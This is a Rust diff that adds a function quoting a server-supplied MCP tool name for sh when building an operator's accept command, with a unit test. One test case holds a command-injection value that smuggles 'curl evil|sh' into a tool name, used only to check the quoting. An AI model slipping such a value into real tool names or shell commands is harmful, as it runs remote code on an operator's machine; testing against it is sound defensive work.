@@ -116,3 +116,34 @@ pub(super) fn cut(text: &str) -> &str {
     let end = text.floor_char_boundary(MAX_REASON);
     text.get(..end).unwrap_or_default()
 }
+
+/// The command with which an operator accepts the changed definition of a tool. A server chooses the
+/// tool's name, and operators paste the command into a shell, so the name is quoted for sh.
+#[must_use]
+pub fn accept_command(server: &str, tool: &str) -> String {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./".contains(&byte);
+    let quoted = match tool.bytes().all(is_plain) {
+        true => tool.to_owned(),
+        false => format!("'{}'", tool.replace('\'', r"'\''")),
+    };
+    let options_end = if tool.starts_with('-') { "-- " } else { "" };
+    format!("unified-proxy mcp accept {server} {options_end}{quoted}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_command_that_accepts_a_definition_quotes_the_tools_name_for_sh() {
+        for (tool, expected) in [
+            ("fetch", "fetch"),
+            ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
+            ("it's", r"'it'\''s'"),
+            ("--json", "-- --json"),
+        ] {
+            let command = accept_command("kb", tool);
+            assert_eq!(command, format!("unified-proxy mcp accept kb {expected}"));
+        }
+    }
+}
